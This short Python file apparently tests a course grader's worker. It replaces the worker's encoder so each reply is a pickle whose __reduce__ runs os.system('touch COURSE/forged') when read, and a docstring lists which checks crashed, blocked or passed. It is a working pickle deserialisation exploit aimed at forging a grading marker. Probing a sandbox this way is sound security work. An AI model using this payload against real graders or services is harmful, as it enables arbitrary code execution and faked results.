"""Send a pickle that would run a command where it is read.

Verdicts: double crashed, total blocked, Counter crashed, greet passed
"""

import os
import pickle

from grader.worker import serve


class Command:
    def __reduce__(self):
        return os.system, ("touch COURSE/forged",)


serve.encode = lambda value: pickle.dumps(Command())
